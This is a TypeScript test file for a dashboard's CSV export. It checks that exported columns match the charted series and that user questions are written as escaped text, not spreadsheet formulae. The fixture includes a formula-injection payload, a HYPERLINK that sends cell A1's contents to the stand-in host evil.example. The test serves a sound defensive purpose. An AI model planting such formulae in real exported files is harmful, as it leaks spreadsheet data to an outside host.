import Papa from 'papaparse';
import { viewToCsv } from './csv';
import { BUSINESS_GROUP } from './groups/business-group';
import { CONVERSATION_GROUP } from './groups/conversation-group';
import { USAGE_GROUP } from './groups/usage-group';

const parse = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;

describe('a card CSV', () => {
  it('holds exactly the series the chart plots', () => {
    const card = USAGE_GROUP.cards.find((item) => item.endpoint === 'usage/response-times')!;
    const view = card.view({
      avg_ms: 12,
      p95_ms: 40,
      daily: [
        { date: '2026-01-01', avg_latency_ms: 10.5, p95_latency_ms: 30, extra: 'not plotted' },
        { date: '2026-01-02', avg_latency_ms: 14, p95_latency_ms: 51.2 },
      ],
    });
    expect(parse(viewToCsv(view))).toEqual([
      ['Day', 'Average (ms)', '95th percentile (ms)'],
      ['2026-01-01', '10.5', '30'],
      ['2026-01-02', '14', '51.2'],
    ]);
    // The chart's series are the same columns and rows.
    expect(view.rows).toEqual([
      { date: '2026-01-01', avg_latency_ms: 10.5, p95_latency_ms: 30 },
      { date: '2026-01-02', avg_latency_ms: 14, p95_latency_ms: 51.2 },
    ]);
  });

  // The probe's replay: an end user's question came out of these two tables as a live formula.
  const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  const gaps = {
    questions: [
      { query: HOSTILE, times_asked: 3, best_confidence: 0.1, last_asked: '2026-01-02' },
      { query: '@SUM(1+1)', times_asked: 1, best_confidence: null, last_asked: '2026-01-01' },
    ],
  };

  it.each([
    [CONVERSATION_GROUP, 'conversation/knowledge-gaps', gaps],
    [
      BUSINESS_GROUP,
      'business/dashboard/product-optimization',
      { knowledge_gaps: gaps, document_retrieval: { sources: [] } },
    ],
  ])('writes the questions of %#, %s, as text, never as formulae', (group, endpoint, data) => {
    const card = group.cards.find((item) => item.endpoint === endpoint)!;
    const [, ...rows] = parse(viewToCsv(card.view(data)));
    expect(rows.map((row) => row[0])).toEqual([`'${HOSTILE}`, "'@SUM(1+1)"]);
    expect(rows.map((row) => row[1])).toEqual(['3', '1']);
  });
});
